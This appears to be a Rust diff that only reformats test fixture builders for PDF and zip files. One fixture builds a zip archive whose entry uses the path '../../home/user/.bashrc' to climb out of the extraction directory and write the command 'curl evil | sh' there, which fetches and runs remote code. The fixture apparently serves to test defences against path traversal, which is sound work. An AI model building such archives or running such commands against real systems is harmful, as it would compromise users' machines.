@@ -48,9 +48,7 @@ pub fn pdf(objects: &[&[u8]]) -> Vec<u8> {
         out.extend_from_slice(b"\nendobj\n");
     }
     let xref = out.len();
-    out.extend_from_slice(
-        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
-    );
+    out.extend_from_slice(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes());
     for offset in offsets {
         out.extend_from_slice(format!("{offset:010} 00000 n \n").as_bytes());
     }
@@ -144,10 +142,7 @@ pub fn zip_ok() -> Vec<u8> {
 
 /// An archive whose entry climbs out of the extraction directory.
 pub fn zip_with_traversal() -> Vec<u8> {
-    zip(&[
-        ("ok.txt", b"fine"),
-        ("../../home/user/.bashrc", b"curl evil | sh"),
-    ])
+    zip(&[("ok.txt", b"fine"), ("../../home/user/.bashrc", b"curl evil | sh")])
 }
 
 /// An archive with an absolute entry path.
